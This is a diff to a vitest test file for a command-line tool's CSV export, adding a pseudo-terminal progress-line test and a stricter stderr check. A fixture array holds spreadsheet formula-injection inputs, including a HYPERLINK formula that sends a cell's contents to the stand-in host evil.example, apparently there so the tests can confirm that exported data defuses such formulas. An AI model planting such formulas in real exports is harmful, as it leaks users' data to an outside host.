@@ -4,6 +4,7 @@ import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { sandbox, type Sandbox } from './helpers.js';
+import { runInPty } from './pty.js';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '+1', '-2+3', '@SUM(A1:A9)'];
 const TRICKY = 'her kids\' safety, "above all"\nand the rent 🏠';
@@ -105,9 +106,18 @@ describe('export', () => {
     const result = box.run(['export', 'meetings', '--out', out]);
     expect(result.code, result.stderr).toBe(0);
     expect(result.stdout).toBe('');
-    expect(result.stderr).toContain('Wrote 2 meetings');
+    expect(result.stderr).toBe(`Wrote 2 meetings to ${out} (readable only by you).\n`); // no progress line when stderr is not a terminal
     expect(statSync(out).mode & 0o777).toBe(0o600);
     expect(readFileSync(out, 'utf8')).toBe(box.run(['export', 'meetings']).stdout);
+  });
+
+  it('shows a progress line on stderr when it is a terminal, and clears it at the end', async () => {
+    const out = join(box.dir, 'pty.csv');
+    const { code, screen } = await runInPty(['export', 'notes', '--out', out], box.env, []);
+    expect(code).toBe(0);
+    expect(screen).toContain('Exporting 6 notes');
+    expect(screen).toContain('Wrote 6 notes');
+    expect(csvOf(readFileSync(out, 'utf8'))).toHaveLength(6);
   });
 
   it('refuses to write over the database itself', () => {
